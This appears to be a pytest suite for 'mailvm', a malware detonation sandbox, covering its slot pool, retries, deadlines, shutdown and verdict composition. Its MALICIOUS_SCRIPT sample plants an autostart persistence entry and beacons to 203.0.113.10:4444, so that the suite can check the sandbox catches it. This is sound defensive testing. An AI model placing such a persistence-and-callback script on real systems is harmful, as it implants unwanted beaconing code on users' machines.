"""The detonation pool on the real process backend: pre-warming, verdicts, retries, deadlines, shutdown.

Every pool here runs real guest agents (``python -m mailvm.guest.agent``) on
/dev/shm pages, and the samples run inside the agent's bubblewrap sandbox.
The ``pools`` fixture closes every pool it made and then checks that no agent
process, page file or slot directory of the test is left.
"""

from __future__ import annotations

import dataclasses
import hashlib
import json
import logging
import os
import re
import signal
import time
from pathlib import Path

import pytest

from mailvm.config import PoolConfig, ScanTableConfig
from mailvm.procfs import find_processes
from mailvm.scantable import ScanTable
from mailvm.verdict import CLEAN, DONE, ERROR, MALICIOUS, SUSPICIOUS, Finding
from mailvm.vmpool.backends import BACKENDS
from mailvm.vmpool.backends.base import BackendUnavailable
from mailvm.vmpool.backends.process import ProcessBackend
from mailvm.vmpool.outcome import MAX_LOG_BYTES, MAX_LOG_ENTRIES, compose_verdict, failure_verdict
from mailvm.vmpool.pool import STATUS_FILE, Job, Pool, max_file_bytes, read_status
from mailvm.vmpool.select import make_backend

MiB = 1024 * 1024

BENIGN = "#!/bin/sh\necho 'hello from a harmless script'\n"
MALICIOUS_SCRIPT = """#!/bin/sh
mkdir -p "$HOME/.config/autostart"
printf '[Desktop Entry]\\nType=Application\\nName=updater\\nExec=/tmp/.updater\\n' > "$HOME/.config/autostart/evil.desktop"
python3 -c 'import socket; s = socket.create_connection(("203.0.113.10", 4444), timeout=5); s.sendall(b"HELLO bot\\n"); s.close()'
"""
SLEEPER = "#!/bin/sh\nsleep 40\necho woke\n"

#: tests that run real agents and sandboxes (the pure verdict tests at the end do not)
sandbox = pytest.mark.sandbox


@pytest.fixture
def need_sandbox():
    reason = ProcessBackend.probe(PoolConfig())
    if reason:
        pytest.skip(f"process backend cannot run here: {reason}")


@pytest.fixture
def cfg(tmp_path: Path) -> PoolConfig:
    return PoolConfig(
        backend="process",
        slots=2,
        work_dir=str(tmp_path / "pool"),
        page_bytes=8 * MiB,
        max_result_bytes=1 * MiB,
        job_timeout_s=20.0,
        idle_s=0.5,
        heartbeat_timeout_s=5.0,
        ready_timeout_s=30.0,
    )


@pytest.fixture
def table(tmp_path: Path):
    t = ScanTable(ScanTableConfig(path=str(tmp_path / "table")))
    yield t
    t.close()


def agent_processes(work_dir: str) -> list[int]:
    """Live processes whose command line mentions ``work_dir`` (the agents of one pool)."""
    return find_processes(work_dir.encode())


def page_files() -> list[str]:
    """This test process's page files (slot ids start with our pid)."""
    return sorted(p for p in os.listdir("/dev/shm") if p.startswith(f"mailvm-{os.getpid()}-"))


@pytest.fixture
def pools(need_sandbox, cfg: PoolConfig, table: ScanTable):
    """``pools(**overrides)`` -> a started Pool on the process backend; all closed and checked at teardown."""
    made: list[Pool] = []

    def make(with_table: bool = True, **over) -> Pool:
        c = dataclasses.replace(cfg, **over)
        pool = Pool(c, ProcessBackend(c), table if with_table else None)
        made.append(pool)
        pool.start()
        return pool

    yield make
    for pool in made:
        pool.close()
    for pool in made:
        assert agent_processes(pool.cfg.work_dir) == []
        assert not list(Path(pool.cfg.work_dir).glob("slot-*"))
    assert page_files() == []


def make_job(tmp_path: Path, name: str, text: str, owner: str = "", **kw) -> Job:
    data = text.encode()
    path = tmp_path / "spool" / name
    path.parent.mkdir(exist_ok=True)
    path.write_bytes(data)
    return Job(
        sha256=hashlib.sha256(data).hexdigest(),
        path=str(path),
        name=name,
        type="text/x-shellscript",
        kind="script",
        owner=owner,
        **kw,
    )


def wait_for(pred, timeout: float, what: str):
    end = time.monotonic() + timeout
    while time.monotonic() < end:
        value = pred()
        if value:
            return value
        time.sleep(0.02)
    raise AssertionError(f"timed out waiting for {what}")


def running_slot(pool: Pool, attempt: int) -> dict:
    """The busy slot whose job is RUNNING in its ``attempt``-th slot."""
    def find():
        for s in pool.status()["busy_slots"]:
            if s["attempt"] == attempt and s["stage"] == "running":
                return s
        return None

    return wait_for(find, 30, f"a running job on attempt {attempt}")


# --------------------------------------------------------------------------- pre-warm and verdicts


@sandbox
def test_prewarms_the_configured_slots(pools):
    pool = pools()
    assert pool.wait_warm(30)
    st = pool.status()
    assert st["slots"]["ready"] == 2 and st["slots"]["busy"] == 0
    assert st["slot_events"]["created"] >= 2
    assert st["refill_ms"]["n"] >= 2 and st["refill_ms"]["median"] > 0
    assert len(page_files()) == 2


@sandbox
def test_benign_script_is_clean(pools, tmp_path):
    pool = pools()
    assert pool.wait_warm(30)
    job = make_job(tmp_path, "hello.sh", BENIGN)
    v = pool.detonate(job, timeout=60)
    assert v.verdict == CLEAN, v
    assert v.source == "detonation" and v.slot
    assert not any(f.id == "slot_failed" for f in v.findings)
    assert v.log[0] == {"type": "kind", "kind": "script"}
    run = v.log[1]
    assert run["type"] == "run" and run["handover_ms"] > 0 and run["failed"] is False


@sandbox
def test_malicious_script_is_published_to_the_table(pools, table, tmp_path):
    pool = pools()
    owner = "test:malicious"
    job = make_job(tmp_path, "update.sh", MALICIOUS_SCRIPT, owner=owner,
                   static_findings=[Finding("script_shebang", 1, "shell script", "triage")])
    assert table.claim(job.sha256, owner).won
    v = pool.detonate(job, timeout=60)
    assert v.verdict == MALICIOUS, v
    assert v.score >= 7
    ids = {f.id for f in v.findings}
    assert "script_shebang" in ids  # static findings are part of the verdict
    stored = table.get(job.sha256)
    assert stored is not None and stored.state == DONE
    assert stored.verdict == MALICIOUS and stored.score == v.score
    assert {f.id for f in stored.findings} == ids
    details = " ".join(f.detail for f in v.findings)
    assert "203.0.113.10" in details or "autostart" in details


@sandbox
def test_four_jobs_on_two_slots_all_complete(pools, tmp_path):
    pool = pools()
    jobs = [make_job(tmp_path, f"n{i}.sh", f"#!/bin/sh\necho job {i}\n") for i in range(4)]
    futs = [pool.submit(j) for j in jobs]
    verdicts = [f.result(timeout=120) for f in futs]
    assert [v.verdict for v in verdicts] == [CLEAN] * 4, verdicts
    slots = {v.slot for v in verdicts}
    assert len(slots) == 4  # one job per slot: every slot is fresh
    st = pool.status()
    assert st["jobs"]["done"] == 4 and st["jobs"]["failed"] == 0
    assert st["handover_ms"]["n"] == 4 and st["run_s"]["n"] == 4
    assert st["slot_events"]["created"] >= 4


@sandbox
def test_guest_timeout_near_the_deadline_is_a_normal_result(pools, tmp_path):
    pool = pools()
    assert pool.wait_warm(30)
    # the guest is told to stop RESULT_MARGIN_S before the deadline, so it reports in time
    job = make_job(tmp_path, "slow.sh", SLEEPER, deadline=time.monotonic() + 5.0)
    t0 = time.monotonic()
    v = pool.submit(job).result(timeout=30)
    assert time.monotonic() - t0 < 5.0
    ids = [f.id for f in v.findings]
    assert "timed_out" in ids and "slot_failed" not in ids
    assert v.verdict != ERROR and v.source == "detonation"
    assert v.log[1]["stopped"] == "timeout"
    st = pool.status()
    assert st["slot_events"]["failed"] == 0 and st["jobs"]["done"] == 1


# --------------------------------------------------------------------------- slot failures


@sandbox
def test_killed_slot_is_retried_once_then_slot_failed(pools, table, tmp_path):
    pool = pools(retries=1)
    owner = "test:killed"
    job = make_job(tmp_path, "sleeper.sh", SLEEPER, owner=owner)
    assert table.claim(job.sha256, owner).won
    fut = pool.submit(job)
    first = running_slot(pool, attempt=1)
    os.killpg(first["pid"], signal.SIGKILL)
    second = running_slot(pool, attempt=2)
    assert second["id"] != first["id"]
    os.killpg(second["pid"], signal.SIGKILL)
    v = fut.result(timeout=60)
    assert v.verdict == ERROR
    failed = [f for f in v.findings if f.id == "slot_failed"]
    assert len(failed) == 1
    assert first["id"] in failed[0].detail and second["id"] in failed[0].detail
    st = pool.status()
    assert st["jobs"]["retried"] == 1 and st["slot_events"]["failed"] == 2
    stored = table.get(job.sha256)  # a finished (failed) detonation is published
    assert stored is not None and stored.verdict == ERROR


@sandbox
def test_a_ready_slot_that_dies_is_replaced_before_any_job_needs_it(pools):
    pool = pools()
    assert pool.wait_warm(30)
    with pool._cond:
        victim = pool._ready[0]
    os.killpg(victim.stats()["pid"], signal.SIGKILL)

    def replaced():
        st = pool.status()
        with pool._cond:
            ids = [s.id for s in pool._ready]
        return st["slot_events"]["stale"] >= 1 and st["slots"]["ready"] == 2 and victim.id not in ids

    wait_for(replaced, 20, "the dead ready slot to be replaced")
    wait_for(lambda: len(page_files()) == 2, 10, "the dead slot's page file to be removed")


@sandbox
def test_killed_slot_then_the_retry_delivers_the_result(pools, tmp_path):
    pool = pools(retries=1)
    job = make_job(tmp_path, "nap.sh", "#!/bin/sh\nsleep 2\necho rested\n")
    fut = pool.submit(job)
    first = running_slot(pool, attempt=1)
    os.killpg(first["pid"], signal.SIGKILL)
    v = fut.result(timeout=90)
    assert v.verdict == CLEAN, v
    assert v.slot != first["id"]
    assert pool.status()["jobs"]["retried"] == 1


@sandbox
def test_frozen_agent_is_detected_by_its_heartbeat_and_the_job_retried(pools, tmp_path, caplog):
    pool = pools(retries=1, heartbeat_timeout_s=1.0)
    job = make_job(tmp_path, "nap2.sh", "#!/bin/sh\nsleep 2\necho rested\n")
    fut = pool.submit(job)
    first = running_slot(pool, attempt=1)
    agent = first["pids"][1] if first["pid_namespace"] else first["pid"]
    with caplog.at_level(logging.WARNING, logger="mailvm.vmpool.pool"):
        os.kill(agent, signal.SIGSTOP)  # alive, but its heartbeat stops
        v = fut.result(timeout=90)
    assert v.verdict == CLEAN and v.slot != first["id"], v
    assert any("heartbeat" in r.getMessage() and first["id"] in r.getMessage() for r in caplog.records)
    st = pool.status()
    assert st["jobs"]["retried"] == 1 and st["slot_events"]["failed"] == 1


# --------------------------------------------------------------------------- deadlines, limits, close


@sandbox
def test_job_queued_past_its_deadline_times_out_and_releases_its_claim(pools, table, tmp_path):
    pool = pools(slots=1)
    busy = pool.submit(make_job(tmp_path, "busy.sh", SLEEPER))
    running_slot(pool, attempt=1)
    owner = "test:late"
    job = make_job(tmp_path, "late.sh", BENIGN, owner=owner, deadline=time.monotonic() + 1.0)
    assert table.claim(job.sha256, owner).won
    t0 = time.monotonic()
    v = pool.submit(job).result(timeout=30)
    assert time.monotonic() - t0 < 10
    assert v.verdict == ERROR
    timed = [f for f in v.findings if f.id == "timed_out"]
    assert timed and "queued too long" in timed[0].detail
    assert table.get(job.sha256) is None  # released, not published
    assert table.claim(job.sha256, "someone-else").won  # the next message may try again
    assert pool.status()["jobs"]["timed_out_queued"] == 1
    pool.close()
    closed = busy.result(timeout=5)
    assert closed.verdict == ERROR and closed.findings[-1].id == "pool_closed"


@sandbox
def test_file_larger_than_the_page_is_refused_without_a_slot(pools, tmp_path, cfg):
    pool = pools()
    big = tmp_path / "big.bin"
    limit = max_file_bytes(cfg)
    with open(big, "wb") as f:
        f.truncate(limit + 1)
    job = Job(hashlib.sha256(b"big").hexdigest(), str(big), "big.bin", "application/octet-stream", "unknown")
    v = pool.submit(job).result(timeout=5)
    assert v.verdict == ERROR and [f.id for f in v.findings] == ["file_too_large"]
    assert pool.status()["handover_ms"]["n"] == 0


@sandbox
def test_close_kills_every_slot_and_fails_queued_jobs(pools, tmp_path):
    pool = pools(slots=1)
    running = pool.submit(make_job(tmp_path, "run.sh", SLEEPER))
    running_slot(pool, attempt=1)
    queued = pool.submit(make_job(tmp_path, "q.sh", BENIGN))
    wait_for(lambda: pool.status()["slots"]["ready"] == 1, 30, "a refilled slot")
    assert len(agent_processes(pool.cfg.work_dir)) >= 2
    t0 = time.monotonic()
    pool.close()
    assert time.monotonic() - t0 < 15
    for fut in (running, queued):
        v = fut.result(timeout=1)
        assert v.verdict == ERROR and any(f.id == "pool_closed" for f in v.findings)
    assert agent_processes(pool.cfg.work_dir) == []
    assert page_files() == []
    assert not list(Path(pool.cfg.work_dir).glob("slot-*"))
    pool.close()  # idempotent
    late = pool.submit(make_job(tmp_path, "after.sh", BENIGN)).result(timeout=1)
    assert late.findings[-1].id == "pool_closed"
    assert read_status(pool.cfg.work_dir)["state"] == "closed"


def test_malformed_job_fields_become_an_error_verdict(cfg, tmp_path):
    pool = Pool(cfg, ProcessBackend(cfg))  # not started: refusals are answered at once
    job = make_job(tmp_path, "ok.sh", BENIGN)
    bad = dataclasses.replace(job, deadline="soon", timeout_s=-1)
    v = pool.submit(bad).result(timeout=1)
    assert v.verdict == ERROR and v.findings[0].id == "bad_job"
    assert "deadline" in v.findings[0].detail and "timeout_s" in v.findings[0].detail
    missing = pool.submit(dataclasses.replace(job, path=str(tmp_path / "gone"))).result(timeout=1)
    assert missing.findings[0].id == "file_unreadable"
    pool.close()
    assert pool.submit(job).result(timeout=1).findings[0].id == "pool_closed"


EXIT_WITHOUT_CLOSE = """
import os, sys
from mailvm.config import PoolConfig
from mailvm.vmpool.backends.process import ProcessBackend
from mailvm.vmpool.pool import Pool
cfg = PoolConfig(backend="process", slots=2, work_dir=sys.argv[1], page_bytes=8 << 20, max_result_bytes=1 << 20)
pool = Pool(cfg, ProcessBackend(cfg))
pool.start()
assert pool.wait_warm(30)
print("warm", os.getpid(), len(os.listdir("/dev/shm")), flush=True)
# no close(): the interpreter exits and the pool's exit hook must clean up
"""


@sandbox
def test_no_slot_outlives_a_process_that_forgot_to_close(need_sandbox, tmp_path):
    import subprocess
    import sys

    work = str(tmp_path / "pool")
    res = subprocess.run([sys.executable, "-c", EXIT_WITHOUT_CLOSE, work], capture_output=True, text=True, timeout=60)
    assert res.returncode == 0, res.stderr
    child = re.fullmatch(r"warm (\d+) \d+\n", res.stdout)
    assert child, res.stdout
    assert agent_processes(work) == []
    assert not list(Path(work).glob("slot-*"))
    assert read_status(work)["state"] == "closed"
    # the child's page files are named after its pid
    assert not [p for p in os.listdir("/dev/shm") if p.startswith(f"mailvm-{child.group(1)}-")]


# --------------------------------------------------------------------------- status


@sandbox
def test_status_and_status_json(pools, tmp_path):
    pool = pools()
    assert pool.wait_warm(30)
    v = pool.detonate(make_job(tmp_path, "s.sh", BENIGN), timeout=60)
    assert v.verdict == CLEAN
    st = pool.status()
    assert st["pid"] == os.getpid() and st["state"] == "running"
    assert st["backend"]["name"] == "process" and st["backend"]["accel"] == "none"
    assert "weak" in st["backend"]["isolation"]
    assert st["slots"]["target"] == 2
    assert st["queue"] == 0
    assert st["jobs"]["submitted"] == 1 and st["jobs"]["done"] == 1
    assert st["jobs"]["verdicts"][CLEAN] == 1
    ho = st["handover_ms"]
    assert ho["n"] == 1 and ho["last"] == ho["median"] == ho["p95"] > 0
    assert st["run_s"]["last"] > 0
    # status.json follows within a couple of seconds and is complete JSON
    path = Path(pool.cfg.work_dir) / STATUS_FILE

    def fresh():
        data = read_status(pool.cfg.work_dir)
        return data if data and data["jobs"]["done"] == 1 else None

    data = wait_for(fresh, 5, "status.json with the finished job")
    assert data["pid"] == os.getpid()
    assert abs(data["updated_at"] - time.time()) < 10
    assert data["backend"]["name"] == "process"
    assert json.loads(path.read_text()) == data
    assert not [p for p in path.parent.iterdir() if p.name.startswith(".status-")]


# --------------------------------------------------------------------------- backend selection


@sandbox
def test_make_backend_explicit_and_auto(need_sandbox, cfg):
    assert isinstance(make_backend(dataclasses.replace(cfg, backend="process")), ProcessBackend)
    auto = make_backend(dataclasses.replace(cfg, backend="auto"))
    qemu = BACKENDS.get("qemu")
    if qemu is not None and qemu.probe(cfg) is None:
        assert auto.name == "qemu"
    else:
        assert isinstance(auto, ProcessBackend)


@sandbox
def test_make_backend_refuses_unknown_and_unregistered_names(need_sandbox, cfg):
    with pytest.raises(BackendUnavailable, match="unknown backend 'vmware'"):
        make_backend(dataclasses.replace(cfg, backend="vmware"))
    with pytest.raises(BackendUnavailable, match="xen"):  # valid name, but not here: never a fallback
        make_backend(dataclasses.replace(cfg, backend="xen"), registry={"process": ProcessBackend})
    with pytest.raises(BackendUnavailable, match="no backend can run here"):
        make_backend(dataclasses.replace(cfg, backend="auto"), registry={})


@sandbox
def test_qemu_that_cannot_run_falls_back_to_process_loudly(need_sandbox, cfg, caplog):
    qcfg = dataclasses.replace(cfg, backend="qemu")
    with caplog.at_level(logging.WARNING, logger="mailvm.vmpool.select"):
        b = make_backend(qcfg, registry={"process": ProcessBackend})  # an installation without qemu
    assert isinstance(b, ProcessBackend)
    assert any("FALLING BACK" in r.getMessage() and r.levelno == logging.WARNING for r in caplog.records)
    qemu = BACKENDS.get("qemu")
    why = qemu.probe(qcfg) if qemu is not None else "not registered"
    if why is None:
        pytest.skip("qemu can run here: no fallback to observe with the real registry")
    caplog.clear()
    with caplog.at_level(logging.WARNING, logger="mailvm.vmpool.select"):
        b = make_backend(qcfg)  # the real registry, where qemu's probe refuses
    assert isinstance(b, ProcessBackend)
    (rec,) = [r for r in caplog.records if "FALLING BACK" in r.getMessage()]
    assert why in rec.getMessage()


@sandbox
def test_probe_reason_is_reported_when_the_chosen_backend_cannot_run(cfg, monkeypatch, tmp_path):
    empty = tmp_path / "empty-bin"
    empty.mkdir()
    monkeypatch.setenv("PATH", str(empty))  # bwrap, strace and ip are not found
    with pytest.raises(BackendUnavailable, match="missing tools: bwrap"):
        make_backend(dataclasses.replace(cfg, backend="process"))
    with pytest.raises(BackendUnavailable, match="fallback 'process' cannot either"):
        make_backend(dataclasses.replace(cfg, backend="qemu"), registry={"process": ProcessBackend})


@sandbox
def test_backend_that_makes_no_slot_fails_jobs_with_vm_error(need_sandbox, cfg, table, tmp_path):
    # a page directory that does not exist: every slot creation fails for real
    backend = ProcessBackend(cfg, page_dir=str(tmp_path / "no-such-dir"))
    pool = Pool(cfg, backend, table)
    try:
        pool.start()
        owner = "test:broken"
        job = make_job(tmp_path, "x.sh", BENIGN, owner=owner)
        assert table.claim(job.sha256, owner).won
        t0 = time.monotonic()
        v = pool.submit(job).result(timeout=30)
        assert time.monotonic() - t0 < 15
        assert v.verdict == ERROR
        (err,) = [f for f in v.findings if f.id == "vm_error"]
        assert "no slot could be created" in err.detail
        assert table.get(job.sha256) is None  # released: nothing was analysed
        assert not pool.wait_warm(0.1)
        st = pool.status()
        assert st["state"] == "broken" and st["slot_events"]["create_failures"] >= 3
        assert "cannot create page" in st["slot_events"]["last_create_error"]
        # while broken, new jobs are answered at once instead of hanging
        v2 = pool.submit(make_job(tmp_path, "y.sh", BENIGN + "#2\n")).result(timeout=2)
        assert v2.verdict == ERROR and v2.findings[-1].id == "vm_error"
    finally:
        pool.close()
    assert agent_processes(cfg.work_dir) == []


# --------------------------------------------------------------------------- composing verdicts (pure)


def result(verdict: str, findings: list[dict], **kw) -> dict:
    return {"schema": 1, "verdict": verdict, "score": 0, "findings": findings, "log": [], "duration_s": 1.0,
            "stopped": "exited_idle", "launcher": "sh", "events": 3, **kw}


def test_compose_scores_static_and_guest_findings_on_the_host():
    static = [Finding("macro_autoopen", 5, "", "triage")]
    guest = [{"id": "network_raw_ip", "severity": 6, "detail": "1.2.3.4:80", "source": "detonation"},
             {"id": "dropped_exec", "severity": 5, "detail": "", "source": "detonation"}]
    # the guest says clean; the host's scoring of the same evidence decides (6 + 1 corroboration)
    v = compose_verdict(static, "office", result("clean", guest), "s1", 1.5, 0.7)
    assert (v.verdict, v.score) == (MALICIOUS, 7)
    assert [f.id for f in v.findings] == ["macro_autoopen", "network_raw_ip", "dropped_exec"]
    assert v.slot == "s1" and v.duration_s == 1.5 and v.source == "detonation"
    assert v.log[0] == {"type": "kind", "kind": "office"}
    assert v.log[1]["guest_verdict"] == "clean" and v.log[1]["events"] == 3


def test_compose_guest_error_stays_error_unless_the_evidence_is_already_bad():
    err = [{"id": "agent_error", "severity": 0, "detail": "boom", "source": "agent"}]
    v = compose_verdict([], "script", result("error", err), "s1", 0.1, 0.5)
    assert v.verdict == ERROR and v.score == 0 and [f.id for f in v.findings] == ["agent_error"]
    static = [Finding("obfuscated_script", 5, "", "triage")]
    v = compose_verdict(static, "script", result("error", err), "s1", 0.1, 0.5)
    assert (v.verdict, v.score) == (SUSPICIOUS, 5)


def test_compose_timed_out_with_no_evidence_stays_clean():
    t = [{"id": "timed_out", "severity": 0, "detail": "still running", "source": "detonation"}]
    v = compose_verdict([], "script", result("clean", t, stopped="timeout"), "s1", 60.0, 0.5)
    assert v.verdict == CLEAN and [f.id for f in v.findings] == ["timed_out"]


def test_compose_caps_the_guest_log_and_drops_malformed_findings():
    entries = ["a text line"] + [{"type": "file", "path": "/x" * 100, "i": i} for i in range(5000)]
    bad = [{"id": "ok", "severity": 1}, {"id": "", "severity": 3}, {"id": "x", "severity": 99}, "nonsense"]
    v = compose_verdict([], "script", result("clean", bad, log=entries), "s1", 1.0, 0.5)
    guest_log = v.log[2:]
    assert guest_log[0] == {"type": "text", "text": "a text line"}
    assert 0 < len(guest_log) <= MAX_LOG_ENTRIES
    assert sum(len(json.dumps(e)) for e in guest_log) <= MAX_LOG_BYTES
    assert [f.id for f in v.findings] == ["ok", "guest_bad_finding"]
    assert v.findings[1].detail.startswith("3 malformed")


def test_failure_verdict_keeps_static_evidence():
    v = failure_verdict([], "script", "slot_failed", "died", slot="s9")
    assert v.verdict == ERROR and v.slot == "s9" and v.findings[0].source == "engine"
    v = failure_verdict([Finding("pe_packed", 7, "", "triage")], "executable", "slot_failed", "died")
    assert v.verdict == MALICIOUS and {f.id for f in v.findings} == {"pe_packed", "slot_failed"}


def test_status_says_starting_while_the_backend_prepares(need_sandbox, cfg, table, tmp_path, capsys):
    """While the backend prepares (the reference VM boots: a minute under TCG), status.json says
    "starting" and `mvctl pool status` says so (exit 3), not "has not run"; then it runs (exit 0)."""
    import threading

    from mailvm.cli.mvctl import main as mvctl

    gate = threading.Event()

    class SlowToPrepare(ProcessBackend):  # the real process backend, whose preparation waits for the gate
        def prepare(self) -> None:
            gate.wait(60)
            super().prepare()

    conf = tmp_path / "mailvm.toml"
    conf.write_text(f'[pool]\nwork_dir = "{cfg.work_dir}"\n')
    pool = Pool(cfg, SlowToPrepare(cfg), table)
    starter = threading.Thread(target=pool.start)
    starter.start()
    try:
        deadline = time.monotonic() + 20
        while time.monotonic() < deadline and not (read_status(cfg.work_dir) or {}).get("starting_since"):
            time.sleep(0.05)
        status = read_status(cfg.work_dir)
        assert status and status["state"] == "starting", status
        time.sleep(2.5)  # rewritten meanwhile, so it never looks stale
        assert read_status(cfg.work_dir)["updated_at"] > status["updated_at"]
        assert mvctl(["-c", str(conf), "pool", "status"]) == 3
        assert "starting: booting the reference VM (" in capsys.readouterr().out
        assert mvctl(["-c", str(conf), "pool", "status", "--json"]) == 3
        out = json.loads(capsys.readouterr().out)
        assert out["starting"] is True and out["running"] is False
        gate.set()
        starter.join(30)
        assert read_status(cfg.work_dir)["state"] == "running"
        assert mvctl(["-c", str(conf), "pool", "status"]) == 0
    finally:
        gate.set()
        starter.join(30)
        pool.close()
